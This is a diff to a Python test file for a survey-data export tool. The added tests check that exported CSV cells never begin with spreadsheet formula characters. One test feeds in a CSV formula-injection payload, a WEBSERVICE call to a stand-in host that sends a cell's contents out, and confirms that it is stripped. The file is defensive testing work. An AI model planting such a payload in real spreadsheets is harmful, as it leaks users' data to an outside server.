@@ -10,8 +10,10 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from forms.base.formula import FORMULA_STARTS
 from sync.export.column import ExportOptions, safe_name
 from sync.export.export import csv_zip, geojson, root_csv
+from sync.instance.geo import NUMBER
 from sync.intake import submissions
 from sync.lists.selection import Selection
 from tests.station import BEGINNING, Station
@@ -148,7 +150,11 @@ def test_what_an_earlier_version_asked_is_there_when_it_is_wanted(station: Stati
     assert "note" in header
 
 
-@given(text=st.text(st.characters(blacklist_categories=["Cs", "Cc"]), max_size=30))
+TEXTS = st.text(st.characters(blacklist_categories=["Cs", "Cc"]), max_size=30)
+FORMULAS = st.builds(str.__add__, st.sampled_from(FORMULA_STARTS), TEXTS)
+
+
+@given(text=TEXTS | FORMULAS.filter(str.isprintable))
 @settings(max_examples=60)
 def test_no_text_becomes_a_formula_and_none_is_changed_otherwise(station: Station, text: str) -> None:
     with station.storage.writing() as db:
@@ -165,8 +171,40 @@ def test_no_text_becomes_a_formula_and_none_is_changed_otherwise(station: Statio
     header, row = rows(station)
     cell = row[header.index("lieu-village")]
     kept = "" if text.isspace() or text == "NaN" else text  # JavaRosa writes NaN for no number
-    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert not cell.startswith(FORMULA_STARTS)
     assert cell in (kept, f"'{kept}")
+
+
+@given(words=st.lists(FORMULAS | st.sampled_from(["12.5", "-8", "+3", "1e3", "nan"]), min_size=1, max_size=4))
+@settings(max_examples=60)
+def test_what_becomes_several_columns_holds_no_formula_either(station: Station, words: list[str]) -> None:
+    """A point, and choices that are split: whoever writes the XML by hand puts there what they like."""
+    text = " ".join(" ".join(words).split())
+    with station.storage.writing() as db:
+        for name in (
+            "submission_attachment",
+            "change",
+            "audit",
+            "submission_version",
+            "submission",
+            "sheet_club",
+        ):
+            db.execute(f"DELETE FROM {name}")
+    send(station, 1, {"/lieu/gps": text, "/themes": text, "/presents": -5, "/duree": -1.5})
+    _header, row = rows(station, ExportOptions(split_select_multiples=True))
+    risky = [cell for cell in row if cell.startswith(FORMULA_STARTS)]
+    assert "-5" in row
+    assert "-1.5" in row
+    assert all(NUMBER.fullmatch(cell) for cell in risky), risky
+
+
+def test_a_point_that_is_none_is_no_point(station: Station) -> None:
+    send(station, 1, {"/lieu/gps": '=WEBSERVICE("http://stranger.example/?"&A2) 2 3 4'})
+    send(station, 2, {"/lieu/gps": "12.65 -8.0 320 4.5"})
+    header, well, none = rows(station)
+    at = header.index("lieu-gps-Latitude")
+    assert well[at : at + 4] == ["12.65", "-8.0", "320", "4.5"]
+    assert none[at : at + 4] == ["", "", "", ""]
 
 
 def test_what_is_deleted_or_another_csos_is_left_out(station: Station) -> None:
